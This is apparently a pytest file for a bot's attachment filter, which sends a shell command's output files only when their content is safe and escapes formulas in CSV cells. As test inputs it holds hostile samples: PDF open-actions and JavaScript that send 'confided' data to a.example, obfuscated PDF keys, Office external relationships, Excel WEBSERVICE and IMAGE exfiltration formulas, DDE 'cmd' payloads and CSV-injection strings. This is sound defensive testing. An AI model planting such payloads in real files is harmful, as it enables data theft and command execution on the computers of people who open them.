"""What of a command's files is sent, told by content."""

import io
import zipfile

import pytest

from bot.services.shell.harvest import attachment, harmless_csv


def package(*names: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name in names:
            made.writestr(name, "<x/>")
    return out.getvalue()


SHEET = ("[Content_Types].xml", "xl/workbook.xml")


@pytest.mark.parametrize(
    ("name", "body", "ending"),
    [
        ("a.txt", "né".encode(), ".txt"),
        ("a.md", b"# x", ".md"),
        ("a.pdf", b"%PDF-1.7", ".pdf"),
        ("photo.txt", b"\x89PNG\r\n\x1a\n...", ".png"),
        ("photo", b"\xff\xd8\xff\xe0", ".jpg"),
        ("a.zip", package(*SHEET), ".xlsx"),
        ("a.xlsx", package("[Content_Types].xml", "word/document.xml"), ".docx"),
        ("a", package("[Content_Types].xml", "ppt/presentation.xml"), ".pptx"),
        ("a.xlsx", package(*SHEET, "xl/vbaProject.bin"), None),
        ("a.docx", package("[Content_Types].xml", "word/document.xml", "word/embeddings/o.bin"), None),
        ("a.zip", package("notes.txt"), None),
        ("a.pdf", b"%PDF-1.4 /OpenAction [3 0 R /FitH null] /A << /S /URI /URI (https://a.example) >>", ".pdf"),
        ("a.pdf", b"%PDF-1.4 /OpenAction << /S /URI /URI (https://a.example/?d=confided) >>", None),
        ("a.pdf", b"%PDF-1.4 /Open#41ction 5 0 R", None),
        ("a.pdf", b"%PDF-1.4 /AA<</O 5 0 R>>", None),
        ("a.pdf", b"%PDF-1.4 /AA%\n<</O<</S/URI/URI(https://a.example/?d=confided)>>>>", None),
        ("a.pdf", b"%PDF-1.4 /AA\0<</O 5 0 R>>", None),
        ("a.pdf", b"%PDF-1.4 /FS%\n/URL /F (https://a.example/?d=confided)", None),
        ("a.pdf", b"%PDF-1.4 /FS\0/URL /F (https://a.example/?d=confided)", None),
        ("a.pdf", b"%PDF-1.4 /OpenAction%\n [3 0 R /Fit] /BaseFont /AAAAAB+Arial", ".pdf"),
        ("a.pdf", b"%PDF-1.4 /S /#4aavaScript /JS (this.submitForm('https://a.example'))", None),
        ("a.pdf", b"%PDF-1.5 << /Type /ObjStm /N 9 >>", None),
        ("a.xlsx", b"PK\x03\x04broken", None),
        ("a.html", b"<script>", None),
        ("a.svg", b"<svg onload=x>", None),
        ("a.sh", b"#!/bin/sh", None),
        ("a.txt", b"\x7fELF\x00", None),
        ("a.csv", b"\xff\xfe", None),
        ("a.txt", b"", None),
        (".profile.txt", b"x", None),
        ("a.txt", b"x" * (5 * 1024 * 1024 + 1), None),
    ],
)
def test_known_kinds_go_and_others_stay(name: str, body: bytes, ending: str | None) -> None:
    found = attachment(name, body)
    assert (found.ending if found else None) == ending


RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"{mode}/>'
    "</Relationships>"
)
OUTSIDE = ' TargetMode="External"'


def related(relations: str | bytes, name: str = "word/_rels/document.xml.rels") -> bytes:
    out = io.BytesIO(package("[Content_Types].xml", "word/document.xml"))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as made:
        made.writestr(name, relations)
    return out.getvalue()


@pytest.mark.parametrize(
    ("kind", "mode", "goes"),
    [
        ("styles", "", True),
        ("image", "", True),
        ("hyperlink", OUTSIDE, True),
        ("image", OUTSIDE, False),
        ("attachedTemplate", OUTSIDE, False),
        ("externalLinkPath", OUTSIDE.replace("Ex", "&#69;x"), False),
        ("oleObject", "", False),
        ("aFChunk", "", False),
        ("vbaProject", "", False),
    ],
)
@pytest.mark.parametrize("charset", ["utf-8", "utf-16"])
def test_an_office_file_loads_and_runs_nothing_when_opened(kind: str, mode: str, goes: bool, charset: str) -> None:
    relations = RELATION.format(kind=kind, target="https://a.example/?d=confided", mode=mode).encode(charset)
    for name in ("word/_rels/document.xml.rels", "WORD/_RELS/SETTINGS.XML.RELS"):
        assert (attachment("a.docx", related(relations, name)) is not None) is goes


@pytest.mark.parametrize(
    "relations", ["<Relationships>", "<a>" + 5_000_000 * " " + "</a>", b""], ids=["cut", "large", "empty"]
)
def test_an_office_file_of_which_that_cannot_be_told_stays(relations: str | bytes) -> None:
    assert attachment("a.docx", related(relations)) is None


@pytest.mark.parametrize(
    ("part", "inside", "goes"),
    [
        ("xl/worksheets/sheet1.xml", "<f>SUM(A1:A9)*_xlfn.DAYS(B1,B2)</f><v>0</v>", True),
        ("xl/worksheets/sheet1.xml", '<f>IF(A1="WEBSERVICE(x)|[y]",1,2)</f>', True),
        ("xl/worksheets/sheet1.xml", "<t>IMAGE (voir https://a.example)</t>", True),
        ("xl/worksheets/sheet1.xml", '<x14:formula1 xmlns:x14="x"><xm:f xmlns:xm="y">B!A1</xm:f></x14:formula1>', True),
        ("xl/worksheets/sheet1.xml", '<f>_xlfn.WEBSERVICE("https://a.example/?d="&amp;A1)</f>', False),
        ("xl/worksheets/sheet1.xml", '<x:f xmlns:x="y">_xlfn.IMAGE ("https://a.example/?d=confided")</x:f>', False),
        ("xl/worksheets/sheet1.xml", "<f><b/>IMAGE(A1)</f>", False),
        ("xl/worksheets/sheet1.xml", '<cfRule><formula>IMPORTDATA("x")</formula></cfRule>', False),
        ("xl/worksheets/sheet1.xml", "<cfvo type='formula' val='RTD(A1)'/>", False),
        ("xl/worksheets/sheet1.xml", "<f>cmd|'/C calc'!A0</f>", False),
        ("xl/worksheets/sheet1.xml", "<f>'https://a.example/x.xlsx'#$S.A1</f>", False),
        ("xl/odd", '<definedName name="x">IMAGE(A1)</definedName>', False),
        ("word/document.xml", '<w:fldSimple xmlns:w="x" w:instr=" PAGE "/>', True),
        ("word/document.xml", "<fldChar fldCharType='begin'/><instrText>TO</instrText><instrText>C</instrText>"
         "<fldChar fldCharType='separate'/><fldChar fldCharType='end'/>", True),
        ("word/document.xml", "<fldChar fldCharType='begin'/><instrText> INCLUDE</instrText><instrText>PICTURE x"
         "</instrText><fldChar fldCharType='end'/>", False),
        ("word/document.xml", "<fldChar fldCharType='begin'/><instrText>INCLUDEPICTURE</instrText>", False),
        ("word/document.xml", "<fldSimple instr='DDEAUTO c:\\x'/>", False),
        ("word/document.xml", '<v:imagedata xmlns:v="x" src="https://a.example/?d=confided"/>', False),
        ("word/document.xml", '<v:imagedata xmlns:v="x" o:href="\\\\a.example\\x" xmlns:o="y"/>', False),
        ("word/media/image1.svg", '<image/>" /><svg/>', False),
        ("word/media/image1.svg", "<svg/>", False),
        ("ppt/slides/slide1.xml", '<a:hlinkMouseOver xmlns:a="x"/>', False),
        ("xl/data.bin", "\0\1", False),
    ],
)  # fmt: skip
def test_no_formula_field_or_part_reaches_out(part: str, inside: str, goes: bool) -> None:
    out = io.BytesIO(package("[Content_Types].xml", "xl/workbook.xml"))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as made:
        made.writestr(part, f"<a>{inside}</a>")
        made.writestr("xl/media/image1.png", b"\x89PNG\r\n\x1a\n\0\1")
    assert (attachment("a.xlsx", out.getvalue()) is not None) is goes


def test_an_office_file_that_declares_entities_stays() -> None:
    body = '<!DOCTYPE a [<!ENTITY b "IMAGE(">]><a><f>SUM(A1)</f></a>'
    assert attachment("a.xlsx", related(body, "xl/worksheets/sheet1.xml")) is None


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a,b\n1,-2\n", "a,b\n1,-2\n"),
        ("a;b\n-1 234,5;+3%\n", "a;b\n-1 234,5;+3%\n"),
        ("=1+1,b\n", "'=1+1,b\n"),
        ('"=HYPERLINK(""x"")",b\n', '"\'=HYPERLINK(""x"")",b\n'),
        ("a\t@SUM(A1)\n", "a\t'@SUM(A1)\n"),
        (" =cmd,-x\n", " '=cmd,'-x\n"),
        # Another program takes another separator.
        ("a;b;c;d\nx,=IMAGE(A1);2;3;4\n", "a;b;c;d\nx,'=IMAGE(A1);2;3;4\n"),
        ('a,b,c\n"x;\t +cmd|A0",2,3\n', 'a,b,c\n"x;\t \'+cmd|A0",2,3\n'),
        ("a;b;c\nx, -5+cmd|A0;2;3\n", "a;b;c\nx, '-5+cmd|A0;2;3\n"),
        ('-";"&cmd|A0,2\n', '\'-";"&cmd|A0,2\n'),
        ("a;b;c\n-1,5;-2,5;il fait -3, dit-on\n", "a;b;c\n-1,5;-2,5;il fait -3, dit-on\n"),
        # In full width, and behind what nobody sees.
        ("\uff1d1+1;\uff20SUM(A1)\n\uff0bcmd|A0,\uff0d1\n", "'\uff1d1+1;'\uff20SUM(A1)\n'\uff0bcmd|A0,'\uff0d1\n"),
        ("\ufeff=1;\u200b=1\n", "\ufeff'=1;\u200b'=1\n"),
        # What is no formula stays as it is: nothing, what Python prints, amounts, cells in quotation marks, line ends.
        (
            '-;"-";--\n-1e-05;"-2.5E+3"\n-.5;-\u00a012 500 F CFA\n',
            '-;"-";--\n-1e-05;"-2.5E+3"\n-.5;-\u00a012 500 F CFA\n',
        ),
        ('"a;b";1,5;2,5\r\n=x;1,5;"c;d"\r\n', '"a;b";1,5;2,5\r\n\'=x;1,5;"c;d"\r\n'),
    ],
)
def test_no_cell_is_a_formula(text: str, expected: str) -> None:
    assert harmless_csv(text) == expected


@pytest.mark.parametrize("charset", ["utf-8", "utf-8-sig", "cp1252", "utf-16"])
def test_texts_of_windows_go_as_what_every_program_reads(charset: str) -> None:
    table, note = (attachment(name, "Élève;5 €".encode(charset)) for name in ("a.csv", "a.txt"))
    assert table is not None
    assert table.body == "\ufeffÉlève;5 €".encode(), "Excel takes it for something older without the mark"
    assert note is not None
    assert note.body.decode() == "Élève;5 €"


def test_a_text_of_which_a_letter_is_cut_in_two_is_of_no_other_charset() -> None:
    assert attachment("a.txt", "Élève".encode()[:-1] + "è".encode()[:1]) is None
